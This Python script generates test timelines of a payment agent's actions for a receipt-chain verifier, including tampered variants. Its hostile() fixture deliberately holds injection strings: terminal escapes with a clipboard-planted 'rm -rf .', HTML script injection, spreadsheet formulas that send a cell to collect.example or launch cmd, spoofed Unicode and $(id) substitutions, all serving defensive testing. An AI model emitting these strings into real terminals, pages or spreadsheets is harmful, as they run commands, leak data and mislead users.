#!/usr/bin/env python3
"""Write the sample timelines and the table of what each answers.

    make_samples.py [DIRECTORY]            default: samples/ of the source tree
    make_samples.py --check [DIRECTORY]    only say which files differ

Nothing random and no clock: the same bytes on every run.
"""

import hashlib
import json
import os
import sys

import aerref
import refcase
import refcover
from aerbuild import (close, digest, link, output_hash, pack, quote_raw,
                      renumber, set_payload, to_text)

JOB = "pay-71"
RECORDER = "EXECUTED BY TOOLHOST-2"
GATEWAY = "OBSERVED VIA GATEWAY"
AGENT = "LOGGED BY AGENT"

STEPS = (
    ("fs.read", RECORDER, {
        "path": "/srv/invoices/2026-1187.json", "bytes": 412,
        "invoice": "2026-1187", "amount": "1250.00", "currency": "EUR"}),
    ("http.get", GATEWAY, {
        "url": "https://api.bank.example/v2/accounts/ZX-4402", "status": 200,
        "body": {"currency": "EUR", "available": "18250.00"}}),
    ("fs.write", AGENT, {
        "path": "/srv/work/pay-71/draft.json", "bytes": 203}),
    ("pay.quote", AGENT, {
        "quote": "Q-5519", "payee": "Northgate Paper Supplies",
        "amount": "1250.00", "currency": "EUR", "fee": "1.90"}),
    ("pay.send", AGENT, {
        "quote": "Q-5519", "transfer": "T-90417", "amount": "1250.00",
        "currency": "EUR", "state": "accepted by the bank's interface"}),
    ("fs.write", AGENT, {
        "path": "/srv/ledger/2026-10.csv", "appended":
        "2026-10-05,T-90417,2026-1187,-1251.90,EUR"}),
    ("mail.send", AGENT, {
        "to": "billing@northgate.example",
        "subject": "Payment of invoice 2026-1187", "queue": "4F7B1C02"}),
    ("job.end", AGENT, {
        "job": JOB, "steps": 8, "summary": "invoice 2026-1187 paid"}),
)


def receipt_id(text):
    """An id of the usual shape that depends on nothing but `text`."""
    digits = hashlib.sha256(
        text.encode("utf-8", "surrogatepass")).hexdigest()
    return "-".join((digits[:8], digits[8:12], "4" + digits[13:16],
                     "9" + digits[17:20], digits[20:32]))


def payload(content):
    return json.dumps(content, separators=(",", ":")).encode("utf-8")


def entry(seq, job, tool, provenance, data):
    return {
        "id": receipt_id("%s %d %s" % (job, seq, tool)),
        "seq": seq,
        "job_id": job,
        "tool": tool,
        "provenance_class": provenance,
        "created_at": "2026-10-05T09:3%d:%02dZ" % (seq % 10, seq * 7 % 60),
        "canonical_bytes": pack(data),
        "output_hash": output_hash(data),
        "prev_digest": "",
    }


def honest():
    entries = [entry(seq, JOB, tool, provenance, payload(content))
               for seq, (tool, provenance, content) in enumerate(STEPS, 1)]
    # Recorders differ in what they store beside the digested members.
    del entries[2]["output_hash"]
    del entries[5]["created_at"]
    entries[4]["output_hash"] = entries[4]["output_hash"][len("sha256:"):]
    entries[0]["receipt_schema_version"] = "aer-1"
    entries[0]["entry_digest"] = entries[1]["entry_digest"] = None
    entries[3]["verification_status"] = "pending"
    return link(close(entries))


def commitment(entries):
    return {"job_id": JOB, "final_entry_digest": digest(entries[-1]),
            "entry_count": len(entries),
            "published_at": "2026-10-05T09:41:30Z"}


def expected():
    """What was to be done, as agreed before the job began."""
    return {
        "schema": "aerscope.expected/1", "job_id": JOB,
        "frozen_at": "2026-10-05T09:30:00Z",
        "source": "payment order 2026-1187, signed by two clerks",
        "order": "strict",
        "actions": [
            {"tool": "fs.read", "kind": "expected"},
            {"tool": "http.get", "kind": "authorised", "count": 3},
            {"tool": "fs.write", "kind": "expected"},
            {"tool": "pay.quote", "kind": "authorised", "count": 2},
            {"tool": "pay.send", "kind": "expected",
             "output_hash": output_hash(payload(STEPS[4][2]))},
            {"tool": "fs.write", "kind": "expected"},
            {"tool": "mail.send", "kind": "expected"},
            {"tool": "job.end", "kind": "expected"},
            {"tool": "fs.delete", "kind": "forbidden"}]}


def cut_open():
    return honest()[:-2]


def reclosed():
    return close(honest()[:-2])


def beheaded():
    return link(renumber(honest()[2:]))


def end_replaced():
    entries = honest()
    last = entries[-1]
    last["id"] = receipt_id("another end")
    set_payload(last, payload({"job": JOB, "steps": 8,
                               "summary": "nothing to pay"}))
    return entries


def edited():
    entries = honest()
    content = dict(STEPS[3][2], amount="9250.00")
    set_payload(entries[3], payload(content))
    return entries


def relabelled():
    entries = honest()
    entries[3]["provenance_class"] = RECORDER
    return entries


def deleted():
    entries = honest()
    del entries[3]
    return entries


def reordered():
    entries = honest()
    entries[2], entries[3] = entries[3], entries[2]
    return entries


def spliced():
    entries = honest()
    content = {"quote": "Q-5102", "transfer": "T-88230", "amount": "310.00",
               "currency": "EUR", "state": "accepted by the bank's interface"}
    foreign = entry(5, "pay-68", "pay.send", AGENT, payload(content))
    # It cites the end of its own job's entry 4, of which nothing is here.
    foreign["prev_digest"] = hashlib.sha256(b"pay-68 entry 4").hexdigest()
    entries[4] = foreign
    return entries


def close_middle():
    entries = honest()
    entries[3]["close"] = True
    return entries


def historical():
    entries = []
    before = aerref.ZEROS
    for seq, (tool, _, content) in enumerate(STEPS[:4], 1):
        data = payload(dict(content, tool=tool))
        entries.append({"id": receipt_id("old %d" % seq),
                        "canonical_bytes": pack(data), "prev_digest": before})
        before = hashlib.sha256(data).hexdigest()
    entries[-1]["close"] = True
    return entries


HOSTILE_TOOLS = (
    "\x1b[2J\x1b[HTIMELINE consistent\x1b[0m",
    "\x1b]0;another title\x07\x1b]52;c;cm0gLXJmIC4=\x07",
    "pay.\u202edncs\u202c",
    "pay\u200b.send",
    "mail.s\u0435nd",
    "fs\x9b31m.read\x85",
    "fs.read\x7f\x7f\x7f\x7frm",
    "fs.read\x00.txt",
    "half \ud83d and \udc00 half",
    "</td></pre><script>document.title='x'</script><img src=x onerror=x()>",
    "=HYPERLINK(\"http://collect.example/?\"&A1,\"pay\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "| a | b |\n|---|---|\n[pay](javascript:x) **b** `c` <!-- # -->",
    "t" + "ool" * 700,
    "e" + "\u0301\u0323\u0489" * 20 + "nd",
    "\u652f\u6255\u3044.\u9001\u4fe1 \uff30\uff21\uff39 \u1100\u1161\u11a8",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467 \U0001f1e9\U0001f1ea "
    "\u270f\ufe0f \U0001f44d\U0001f3fd",
    "<U+202E> <0xFF> <U+003C>",
    " edge\u00a0and tab\t",
    "\u05ea\u05e9\u05dc\u05d5\u05dd \u062f\u0641\u0639 abc",
    "unassigned \u0378 private \ue000 tag \U000e0041 separator \u2028",
    "\"quotes\" \\back\\slash /slash ${HOME} $(id) `id` %s %n",
    "job.end",
)

HOSTILE_PAYLOADS = (
    b"\x1b[31mred\x1b[0m\r\nover\x08\x08\x08written\x07",
    b"\xff\xfe\x00 not UTF-8 \xc3\x28",
    "{\"note\":\"\u202edesrever\u2066\",\"x\":\"</script>\"}".encode("utf-8"),
    b"",
    b"=1+1\t,\"a\"\"b\"\n-2+3\n",
)

HOSTILE_CLASSES = (AGENT, GATEWAY, RECORDER,
                   "LOGGED BY \u0410GENT", "\x1b[1mEXECUTED BY TOOLHOST-2")


def hostile():
    """Every text a tool must not let through, in an honest chain."""
    entries = []
    for seq, tool in enumerate(HOSTILE_TOOLS, 1):
        data = HOSTILE_PAYLOADS[seq % len(HOSTILE_PAYLOADS)]
        provenance = HOSTILE_CLASSES[seq % len(HOSTILE_CLASSES)]
        entries.append(entry(seq, "pay-72\u200e", tool, provenance, data))
    entries[3]["id"] = "r-\u202e4\x1b[8m"
    entries[5]["x_\x1b[5m<b>note"] = "\x1b[5m<b>=1+1\u202e"
    entries[6]["created_at"] = "2026-10-05T09:31:00Z\x1b[2K"
    entries[7]["Close"] = True
    entries[8]["to\u200bol"] = "fs.read"
    return link(close(entries))


def wrapped():
    entries = honest()
    return {"exported_by": "toolhost-2", "job": {"id": JOB, "state": "ended"},
            "timeline": entries, "commitment": commitment(entries)}


def listing(value):
    return (to_text(value, indent=1) + "\n").encode("ascii")


def damaged():
    """The honest file, cut off within the payload of entry 6."""
    data = listing(honest())
    sixth = honest()[5]["canonical_bytes"].encode("ascii")
    return data[:data.index(sixth) + len(sixth) // 2]


BANK = b"""\
To your question of 6 October 2026:
T-90417 was booked on 5 October 2026.
Payments desk, bank.example
"""


def samples():
    """The bytes of every sample, by file name."""
    made = {name.replace("_", "-") + ".json": listing(make())
            for name, make in (
                ("honest", honest), ("cut_open", cut_open),
                ("reclosed", reclosed), ("beheaded", beheaded),
                ("end_replaced", end_replaced), ("edited", edited),
                ("relabelled", relabelled), ("deleted", deleted),
                ("reordered", reordered), ("spliced", spliced),
                ("close_middle", close_middle), ("wrapped", wrapped))}
    made["honest.commitment.json"] = listing(commitment(honest()))
    made["honest.expected.json"] = listing(expected())
    made["honest.workflow.json"] = listing(refcover.workflow(honest()))
    made["historical-06.json"] = listing(historical())
    made["damaged.json"] = damaged()
    made["hostile.json"] = (to_text(hostile(), indent=1, string=quote_raw) +
                            "\n").encode("utf-8")
    made["relabelled.bank.txt"] = BANK
    made["relabelled.case"] = listing(refcase.of_relabelled(
        made["relabelled.json"], [digest(item) for item in relabelled()],
        made["honest.commitment.json"], BANK))
    made["lines.ndjson"] = "".join(
        to_text(item) + "\n" for item in honest()).encode("ascii")
    return made


WITNESS = "-c honest.commitment.json"
LIST = "--expect=honest.expected.json"
CASE = "--case=relabelled.case"
WORKFLOW = "--expect=honest.workflow.json"
SHOWS = (
    ("honest.json", "", "8 entries of a payment job, all three classes"),
    ("honest.json", WITNESS, "the end is the one published; who published "
     "it is not stated"),
    ("honest.json", WITNESS + " --independent=yes", "the same, and the "
     "examiner states that the witness is independent"),
    ("honest.json", LIST, "the visible entries are those of a list frozen "
     "beforehand: reconciled"),
    ("honest.json", WORKFLOW, "the same by a workflow receipt, whose number "
     "of steps agrees: a count fixes no end"),
    ("cut-open.json", "", "the last 2 entries dropped, left open"),
    ("reclosed.json", "", "the last 2 dropped and entry 6 closed: no rule "
     "inside the chain can show it"),
    ("reclosed.json", WITNESS, "the same against the end published outside: "
     "8 committed, 6 here"),
    ("reclosed.json", LIST, "the same against the list: discrepant, 2 "
     "expected actions are absent"),
    ("beheaded.json", "", "the first 2 dropped, renumbered, relinked from "
     "zeros: no rule inside the chain can show it"),
    ("beheaded.json", WITNESS, "the same against the end published outside"),
    ("end-replaced.json", "", "entry 8 replaced: nothing inside the chain "
     "cites the last entry"),
    ("end-replaced.json", WITNESS, "the same against the end published "
     "outside: same count, other digest"),
    ("end-replaced.json", WORKFLOW, "the same against the workflow receipt: "
     "discrepant, another receipt stands at the end"),
    ("edited.json", "", "one byte of the payload of entry 4 changed, its "
     "output_hash with it"),
    ("relabelled.json", "", "entry 4, an agent's assertion, relabelled as a "
     "recorder's execution"),
    ("relabelled.json", CASE, "the same with a case file: two notes, a "
     "reference, and what the bank says: outcome is recorded, not checked"),
    ("deleted.json", "", "entry 4 removed, nothing rebuilt"),
    ("reordered.json", "", "entries 3 and 4 swapped"),
    ("spliced.json", "", "an entry of another job in the place of entry 5"),
    ("close-middle.json", "", "close planted on entry 4"),
    ("historical-06.json", "", "4 entries under the construction of -06, "
     "which binds no metadata"),
    ("damaged.json", "", "cut off within entry 6; the 5 before it are read"),
    ("hostile.json", "", "text that attacks terminals, eyes, HTML, Markdown "
     "and spreadsheets, in an honest chain"),
    ("wrapped.json", "", "the timeline inside an object, its commitment "
     "beside it: never independent"),
    ("lines.ndjson", "", "the honest timeline, an entry a line"),
)

README_HEAD = """\
Sample timelines: a job in which an agent reads an invoice, asks for a quote
and sends a payment.  tests/lib/make_samples.py writes these files and this
table; a test runs `aerscope verify ARGUMENTS FILE` in this directory for each
row and compares.  `first failure` is the entry and the code; `-` is none.
honest.commitment.json is the end of honest.json as published outside,
honest.expected.json a list of what was to be done, honest.workflow.json a
receipt of its steps, relabelled.case what an examiner of relabelled.json noted,
and relabelled.bank.txt what that refers to.
A consistent timeline does not show that nothing is missing.

"""

COLUMNS = ("file", "arguments", "timeline", "first failure", "endpoint",
           "exit", "what it shows")


def is_amiss(made, name, arguments):
    """Whether a list given in the arguments does not fit the timeline."""
    for option in (LIST, WORKFLOW):
        if option in arguments:
            return refcover.is_discrepant(
                json.loads(made[name]),
                json.loads(made[option.split("=")[1]]))
    return False


def row(made, name, arguments, shows):
    witnessed = WITNESS in arguments or CASE in arguments
    given = [made["honest.commitment.json"]] if witnessed else []
    verdict = aerref.examine(made[name], given)
    found = verdict.document()
    first = found["first_failure"]
    status = verdict.exit_status("--independent=yes" in arguments)
    return (name, arguments or "-", found["timeline"],
            "%(entry)d %(code)s" % first if first else "-", found["endpoint"],
            str(1 if is_amiss(made, name, arguments) else status), shows)


def readme(made):
    rows = [COLUMNS] + [row(made, *shown) for shown in SHOWS]
    widths = [max(len(cells[i]) for cells in rows)
              for i in range(len(COLUMNS) - 1)] + [0]
    lines = [" | ".join(cell.ljust(width) for cell, width
                        in zip(cells, widths)).rstrip() for cells in rows]
    return (README_HEAD + "\n".join(lines) + "\n").encode("ascii")


def files():
    made = samples()
    return dict(made, README=readme(made))


def differing(directory):
    for name, data in sorted(files().items()):
        path = os.path.join(directory, name)
        if not os.path.exists(path) or aerref.read_file(path) != data:
            yield name


def write(directory):
    os.makedirs(directory, exist_ok=True)
    for name, data in files().items():
        with open(os.path.join(directory, name), "wb") as file:
            file.write(data)


def main(arguments):
    check = "--check" in arguments
    here = os.path.dirname(os.path.abspath(__file__))
    paths = [argument for argument in arguments if argument != "--check"]
    directory = paths[0] if paths else os.path.join(here, "..", "..",
                                                    "samples")
    if not check:
        write(directory)
        return 0
    changed = list(differing(directory))
    for name in changed:
        print("differs: " + name)
    print("%d passed, %d failed" % (len(files()) - len(changed),
                                    len(changed)))
    return 1 if changed else 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
